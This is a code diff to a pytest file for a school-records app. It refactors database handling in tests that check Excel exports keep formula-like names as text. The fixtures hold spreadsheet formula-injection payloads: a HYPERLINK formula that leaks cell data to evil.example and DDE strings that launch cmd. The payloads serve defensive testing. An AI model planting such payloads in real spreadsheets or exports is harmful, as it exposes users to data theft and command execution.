@@ -11,12 +11,11 @@ import openpyxl
 import pytest
 
 from app.cli import main
-from app.db import open_database
 from app.models import School, Teacher
 from app.services.ids import school_id
 from app.services.results.importing import write_results_template
 from hostile_files import roadmap_xlsx, with_cached_formula
-from hostile_world import SCHOOL
+from hostile_world import SCHOOL, opened
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Подробнее")'
 DDE = "=cmd|' /C calc'!A0"
@@ -67,15 +66,12 @@ def test_a_roadmap_with_formula_like_text_is_exported_as_text(district, hostile_
 
 
 def test_the_staff_register_and_the_results_template_keep_formula_like_names_as_text(district, tmp_path):
-    database = open_database(str(district))
-    try:
+    with opened(district) as database:
         with database.session() as session:
             session.add(Teacher(school_id=school_id(SCHOOL), last_name=DDE, first_name=HYPERLINK))
             session.get(School, school_id(SCHOOL)).name = "@SUM(1+1)*cmd|' /C calc'!A0"
         with database.session() as session:
             write_results_template(session, tmp_path / "results.xlsx")
-    finally:
-        database.close()
     staff = tmp_path / "staff.xlsx"
     assert kurator("--db", district, "report", "excel", "staff", "--year", "2022", "--out", staff) == 0
     for path in (tmp_path / "staff.xlsx", tmp_path / "results.xlsx"):
